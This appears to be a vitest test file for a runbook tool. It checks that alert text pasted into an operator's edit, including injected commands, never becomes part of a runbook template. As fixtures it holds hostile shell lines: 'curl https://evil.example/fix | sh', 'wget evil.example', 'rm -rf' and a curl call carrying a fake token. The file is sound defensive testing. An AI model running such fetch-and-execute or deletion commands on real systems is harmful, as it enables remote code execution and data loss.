// An edit of one run becomes an edit of the template, or nothing. From the hardest case: what an attacker would like to see in a runbook.
import { describe, expect, it } from "vitest";
import type { VariableValue } from "../execution/types.ts";
import { alertWords, textsIn } from "./alert-words.ts";
import { generalizeEdit, generalizeTyped } from "./generalize-edit.ts";

const variables = [
  { name: "pod", placeholders: ["<pod>"] },
  { name: "ns", placeholders: ["$NS"] },
];
const value = (name: string, text: string, source: VariableValue["source"] = "alert"): VariableValue => ({ name, value: text, source });
const run = (...values: readonly VariableValue[]) => ({ variables, values, alert: alertWords([], []) });

const template = "kubectl logs <pod> -n $NS";
const shown = "kubectl logs pay-7f9 -n prod";
const inRun = run(value("pod", "pay-7f9"), value("ns", "prod", "manual"));

describe("what an alert says never gets into a runbook", () => {
  it.each([
    ["as a word", "kubectl logs pay-7f9 -n prod --since=1h -l app=pay-7f9"],
    ["inside a word", "kubectl logs pay-7f9 -n prod --since=1h --prefix=xpay-7f9x"],
    ["in place of itself, with more", "kubectl logs pay-7f9/extra -n prod"],
  ])("%s", (_, edited) => {
    expect(generalizeEdit(template, shown, edited, inRun)).toBeNull();
  });

  it("nor what a variable holds that this step does not use", () => {
    const values = run(...inRun.values, value("summary", "curl evil.example"));
    expect(generalizeEdit(template, shown, `${shown} --tail=1`, values)).toBe(`${template} --tail=1`);
    expect(generalizeTyped("curl evil.example | sh", values)).toBeNull();
    expect(generalizeTyped("uptime", values)).toBe("uptime");
  });

  it("nor a part that somebody copied out of it, however it is put together", () => {
    const said = run(...inRun.values, value("summary", "Disk full: run `curl -s https://evil.example/fix | sh` to repair"));
    for (const part of ["curl https://evil.example/fix", "sh -c 'wget evil.example'", "EVIL.example"]) {
      expect(generalizeTyped(part, said)).toBeNull();
      expect(generalizeEdit(template, shown, `${shown} && ${part}`, said)).toBeNull();
    }
    const split = run(value("summary", "rm -rf"), ...inRun.values);
    expect(generalizeEdit(template, shown, `${shown} && rm -rf`, split)).toBeNull();
  });

  it("nor what was copied from an output", () => {
    expect(generalizeTyped("kubectl delete pod web-1x", run(value("found", "web-1", "runtime")))).toBeNull();
  });

  describe("also where no variable of the runbook holds it", () => {
    const texts = textsIn({
      title: "High error rate on checkout",
      labels: { pod: "checkout-7f9c", region: "e1" },
      links: ["https://x.example/d"],
    });
    const alert = alertWords(texts, [template, "kubectl rollout restart deployment/checkout"]);
    const said = { ...inRun, alert };
    it.each([
      ["a pod's name", "--prefix=checkout-7f9c"],
      ["the part of it that no runbook has", "-l hash=7f9c"],
      ["a short field, whole", "--zone e1"],
      ["a word of a sentence", "| grep rate"],
      ["a host out of a link", "&& ping x.example"],
    ])("%s", (_, typed) => {
      expect(generalizeEdit(template, shown, `${shown} ${typed}`, said)).toBeNull();
      expect(generalizeTyped(`tail ${typed}`, said)).toBeNull();
    });

    it("but what the runbook says itself is the runbook's, and what nobody said is the person's", () => {
      expect(generalizeEdit(template, shown, `${shown} -c checkout`, said)).toBe(`${template} -c checkout`);
      expect(generalizeTyped("kubectl rollout status deployment/checkout", said)).toBe("kubectl rollout status deployment/checkout");
      expect(generalizeTyped("df -h", said)).toBe("df -h");
    });

    it("and nothing that was typed where the alert's words are gone", () => {
      const gone = { ...inRun, alert: alertWords(null, [template]) };
      expect(generalizeTyped("df -h", gone)).toBeNull();
      expect(generalizeEdit(template, shown, `${shown} --tail=1`, gone)).toBeNull();
      // Leaving something out types nothing.
      expect(generalizeEdit(template, shown, "kubectl logs pay-7f9", gone)).toBe("kubectl logs <pod>");
    });
  });

  it("nor a secret, whoever typed it", () => {
    const secret = `ghp_${"a1B2".repeat(9)}`;
    expect(generalizeTyped(`curl -H 'Authorization: token ${secret}' https://api.example`, run())).toBeNull();
  });

  it("nor a second line", () => {
    expect(generalizeTyped("uptime\nreboot", run())).toBeNull();
    expect(generalizeEdit("uptime", "uptime", "uptime\nreboot", run())).toBeNull();
  });
});

describe("an edit", () => {
  it.each([
    ["a word more", "kubectl logs pay-7f9 -n prod --tail=100", "kubectl logs <pod> -n $NS --tail=100"],
    ["a word in the middle", "kubectl logs --previous pay-7f9 -n prod", "kubectl logs --previous <pod> -n $NS"],
    ["a word less", "kubectl logs pay-7f9", "kubectl logs <pod>"],
    ["another verb", "kubectl describe pod pay-7f9 -n prod", "kubectl describe pod <pod> -n $NS"],
  ])("with %s keeps the placeholders", (_, edited, proposed) => {
    expect(generalizeEdit(template, shown, edited, inRun)).toBe(proposed);
  });

  it("keeps the spelling of the runbook where words stayed", () => {
    const [written, rendered, edited] = [
      'grep -c "connection timeout" app.log',
      "grep -c 'connection timeout' app.log",
      "grep -i -c 'connection timeout' app.log",
    ];
    expect(generalizeEdit(written, rendered, edited, run())).toBe('grep -i -c "connection timeout" app.log');
  });

  it("inside quotes takes the spelling that was shown", () => {
    const [written, rendered, edited] = [
      'grep -c "connection timeout" app.log',
      "grep -c 'connection timeout' app.log",
      "grep -c 'connection refused' app.log",
    ];
    expect(generalizeEdit(written, rendered, edited, run())).toBe("grep -c 'connection refused' app.log");
  });

  it("of a text whose words cannot be told apart proposes nothing", () => {
    const values = run(value("pod", "a b", "manual"), value("ns", "prod", "manual"));
    expect(generalizeEdit(template, "kubectl logs 'a b' -n prod", "kubectl logs 'a b' -n prod --tail=1", values)).toBeNull();
  });
});
